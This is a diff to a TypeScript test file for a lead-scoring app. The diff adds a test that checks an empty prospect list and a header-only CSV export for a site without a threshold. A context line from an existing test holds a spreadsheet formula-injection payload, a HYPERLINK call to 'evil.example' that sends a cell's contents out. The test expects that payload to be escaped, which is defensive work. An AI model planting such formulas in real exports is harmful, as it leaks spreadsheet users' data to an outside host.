@@ -136,3 +136,17 @@ describe("the first worked example, end to end", () => {
     expect(cell).toBe('"\'=HYPERLINK(""https://evil.example/?""&A1,""Open"") +5"');
   });
 });
+
+describe("a site that scores without a prospect list", () => {
+  it("scores leads, and its list answers empty and says there is no threshold", async () => {
+    await createSite("acme", { classes: [{ name: "warm", min: 2 }], rules: [{ id: "page", points: 1, when: { event: "pageview" } }] });
+    await track("acme", "visitor-nolist", event("pageview", "/"), event("pageview", "/a"), event("pageview", "/b"));
+    const v = await visitor("acme", "visitor-nolist");
+    expect(v).toMatchObject({ score: 3, prospect: false });
+    const list = (await (await api("/api/sites/acme/prospects")).json()) as ListJson & { hasThreshold: boolean };
+    expect(list).toMatchObject({ hasThreshold: false, prospects: [] });
+    await runCron(Date.now() + DAY);
+    const csv = await (await api("/api/sites/acme/prospects?format=csv")).text();
+    expect(csv.trim().split("\r\n")).toHaveLength(1);
+  });
+});
